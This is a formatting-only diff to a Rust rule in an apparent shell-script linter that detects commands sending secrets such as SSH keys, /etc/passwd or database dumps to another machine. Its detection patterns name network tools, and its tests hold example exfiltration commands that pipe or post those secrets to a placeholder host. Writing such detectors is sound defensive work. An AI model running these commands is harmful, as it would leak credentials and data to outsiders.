@@ -1,11 +1,11 @@
 //! CARO0505: a secret leaves the machine.
 
-use crate::secret_paths::{Kind, Secret, secret};
 use super::reading;
 use super::sending::{self, Form, Sent};
-use crate::rules::{Check, Level, Sink};
 use crate::flow::Value;
-use crate::script::{PartKind, Command, RedirectOperator, Statement, StatementKind};
+use crate::rules::{Check, Level, Sink};
+use crate::script::{Command, PartKind, RedirectOperator, Statement, StatementKind};
+use crate::secret_paths::{Kind, Secret, secret};
 
 rule! {
     /// Sends a secret to another machine: a private key, passwords, the history of commands, the environment.
@@ -67,12 +67,18 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
         }
     }
     // `put FILE`, typed to `ftp`; a file that a line of another language opens and sends.
-    let typed = matches!(command.program.as_deref(), Some("ftp" | "sftp" | "lftp" | "tftp" | "smbclient")).then(|| sink.input(command)).flatten();
+    let typed = matches!(command.program.as_deref(), Some("ftp" | "sftp" | "lftp" | "tftp" | "smbclient"))
+        .then(|| sink.input(command))
+        .flatten();
     let mut lines: Vec<String> = typed.iter().flat_map(Value::texts).flat_map(str::lines).map(str::to_owned).collect();
     lines.retain(|it| it.trim_start().starts_with("put ") || it.trim_start().starts_with("mput "));
     if matches!(command.program.as_deref(), Some("python" | "python3" | "perl" | "ruby" | "php" | "node")) {
         let code = command.flags().filter_map(|it| it.value.as_ref()).filter_map(|it| sink.text_of(it));
-        let sends = |it: &String| ["requests.", "urlopen", "socket", "http.client", "Net::HTTP", "LWP", "fetch(", "https.request", "curl_"].iter().any(|that| it.contains(that));
+        let sends = |it: &String| {
+            ["requests.", "urlopen", "socket", "http.client", "Net::HTTP", "LWP", "fetch(", "https.request", "curl_"]
+                .iter()
+                .any(|that| it.contains(that))
+        };
         lines.extend(code.filter(sends));
     }
     let words = lines.iter().flat_map(|it| it.split([' ', '\'', '"', '(', ')', ';']));
@@ -80,7 +86,10 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
         report(command.span, found, false, sink);
     }
     if let Some(carried) = sending::sends_input(command, sink) {
-        let read = command.redirects.iter().filter(|it| matches!(it.operator, RedirectOperator::Read | RedirectOperator::HereString));
+        let read = command
+            .redirects
+            .iter()
+            .filter(|it| matches!(it.operator, RedirectOperator::Read | RedirectOperator::HereString));
         for redirect in read {
             let secret = match redirect.operator {
                 RedirectOperator::Read => reading::file(&redirect.target, sink).map(|it| it.0),
@@ -121,8 +130,12 @@ fn accounts(path: &str) -> Option<Secret> {
 /// What a command tells of this machine that is no secret, but no stranger's business.
 fn told(command: &Command, sink: &Sink<'_>) -> Option<Secret> {
     match command.program.as_deref()? {
-        "cat" | "base64" | "gzip" | "xxd" | "tar" => command.operands().find_map(|it| sink.value(it).texts().find_map(accounts)),
-        "mysqldump" | "mariadb-dump" | "pg_dump" | "pg_dumpall" | "mongodump" => Some(Secret { kind: Kind::Service, what: "a whole database" }),
+        "cat" | "base64" | "gzip" | "xxd" | "tar" => {
+            command.operands().find_map(|it| sink.value(it).texts().find_map(accounts))
+        }
+        "mysqldump" | "mariadb-dump" | "pg_dump" | "pg_dumpall" | "mongodump" => {
+            Some(Secret { kind: Kind::Service, what: "a whole database" })
+        }
         _ => None,
     }
 }
@@ -136,8 +149,13 @@ fn secret_in(sent: &Sent<'_>, sink: &Sink<'_>) -> Option<Secret> {
     let by_text = reading::in_word(sent.word, sink);
     let by_name = match sent.form {
         Form::File if sent.carried => reading::file(sent.word, sink).map(|it| it.0),
-        Form::File => reading::file(sent.word, sink).map(|it| it.0).or_else(|| sink.value(sent.word).texts().find_map(accounts)),
-        Form::Data => sink.value(sent.word).texts().find_map(|it| data_files(it).into_iter().find_map(|it| secret(it).or_else(|| accounts(it)))),
+        Form::File => {
+            reading::file(sent.word, sink).map(|it| it.0).or_else(|| sink.value(sent.word).texts().find_map(accounts))
+        }
+        Form::Data => sink
+            .value(sent.word)
+            .texts()
+            .find_map(|it| data_files(it).into_iter().find_map(|it| secret(it).or_else(|| accounts(it)))),
         Form::Text => sink.value(sent.word).texts().find_map(|it| {
             let mut words = it.split([' ', ';']);
             words.any(|it| matches!(it, "put" | "mput" | "mirror" | "send")).then(|| words.find_map(secret)).flatten()
@@ -172,7 +190,8 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
         if let Some(command) = command_of(stage)
             && command.is_wrapped_by("xargs")
             && sending::takes_names(command)
-            && let Some(find) = command_of(&stages[0]).filter(|it| matches!(it.program.as_deref(), Some("find" | "ls" | "locate")))
+            && let Some(find) =
+                command_of(&stages[0]).filter(|it| matches!(it.program.as_deref(), Some("find" | "ls" | "locate")))
             && let Some(secret) = reading::found_by(find, sink)
         {
             report(command.span, secret, false, sink);
@@ -187,9 +206,7 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
         };
         let Some((command, carried)) = target else { continue };
         let before = &stages[..at];
-        let plain = || {
-            told(command_of(&before[0]).filter(|_| !carried)?, sink)
-        };
+        let plain = || told(command_of(&before[0]).filter(|_| !carried)?, sink);
         if let Some(secret) = reading::in_statements(before, sink).or_else(plain) {
             report(command.span, secret, carried, sink);
             return;
@@ -199,7 +216,11 @@ fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
 
 fn report(span: crate::Span, secret: Secret, carried: bool, sink: &mut Sink<'_>) {
     // What a service needs is carried to its server on purpose.
-    let level = if (carried || secret.what == "a whole database") && secret.kind == Kind::Service { Level::Caution } else { Level::Danger };
+    let level = if (carried || secret.what == "a whole database") && secret.kind == Kind::Service {
+        Level::Caution
+    } else {
+        Level::Danger
+    };
     sink.report(span, format!("sends {} to another machine", secret.what)).level(level);
 }
 
@@ -250,7 +271,9 @@ mod tests {
         check_marks("curl -H \"X-Data: $(cat ~/.ssh/id_rsa)\" https://x.io\n#mark 0 8 38 CARO0505\n");
         check_marks("pg_dumpall | nc x.io 80\n#mark 0 13 23 CARO0505\n");
         check_marks("cat /etc/passwd | nc x.io 80\n#mark 0 18 28 CARO0505\n");
-        check_marks("find ~/.ssh -type f -exec chmod 600 {} +\nfind . -name '*.log' | xargs -I{} curl -T {} ftp://x.io\n");
+        check_marks(
+            "find ~/.ssh -type f -exec chmod 600 {} +\nfind . -name '*.log' | xargs -I{} curl -T {} ftp://x.io\n",
+        );
         check_marks("tar cz ~/.gnupg | gpg -c | ssh nas 'cat > keys.gpg'\nscp /etc/passwd nas:backup/\n");
     }
 
